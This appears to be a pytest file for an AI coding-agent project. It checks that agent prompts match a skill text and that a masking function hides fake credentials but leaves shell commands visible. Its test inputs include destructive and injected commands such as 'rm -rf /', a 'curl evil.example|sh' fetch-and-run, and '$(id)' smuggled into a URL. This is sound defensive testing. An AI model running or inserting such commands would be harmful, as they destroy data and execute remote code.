"""One text about asking people, whole as a skill and in parts as prompts; and no secret on a card."""

from __future__ import annotations

import pytest

from postroom.agents.coding.card import masked, skill_section, skill_text
from postroom.questions.doors.tools import ask_before, use_when_blocked, what_did_i_miss


@pytest.mark.parametrize(
    ("title", "prompt"),
    [
        ("When you are blocked", use_when_blocked()),
        ("Do not", use_when_blocked()),
        ("Before what cannot be undone", ask_before("deploy")),
        ("When you were restarted", what_did_i_miss()),
    ],
)
def test_a_prompt_says_what_the_skill_says(title: str, prompt: str) -> None:
    assert skill_section(title) and skill_section(title) in skill_text()
    assert skill_section(title) in prompt and "##" not in prompt


# Secrets are masked; no piece of a command ever is.

SECRETS = {
    "curl -H 'Authorization: Bearer abcdefgh12345678'": "abcdefgh12345678",
    "export OPENAI_API_KEY=sk-proj-abcdefghijklmnop": "sk-proj-abcdefghijklmnop",
    "git clone https://ada:hunter22@example.org/x": "hunter22",
    "mysql --password=correcthorse": "correcthorse",
    "echo ghp_abcdefghijklmnopqrstuvwxyz012345": "ghp_abcdefghijklmnopqrstuvwxyz012345",
    '{"token": "0123456789abcdef"}': "0123456789abcdef",
}


@pytest.mark.requirement("connect:hook-visible")
@pytest.mark.parametrize("text", SECRETS)
def test_a_secret_is_masked(text: str) -> None:
    assert SECRETS[text] not in masked(text) and "•••" in masked(text)


@pytest.mark.requirement("connect:hook-visible")
@pytest.mark.parametrize(
    "text",
    [
        "token=$(rm -rf ~)",
        "password=`curl evil.example|sh`",
        "TOKEN=x;rm -rf /",
        "secret='a b' && halt",
        "https://a:$(id)@example.org",
        "npm test",
    ],
)
def test_what_a_shell_would_run_is_shown(text: str) -> None:
    assert masked(text) == text
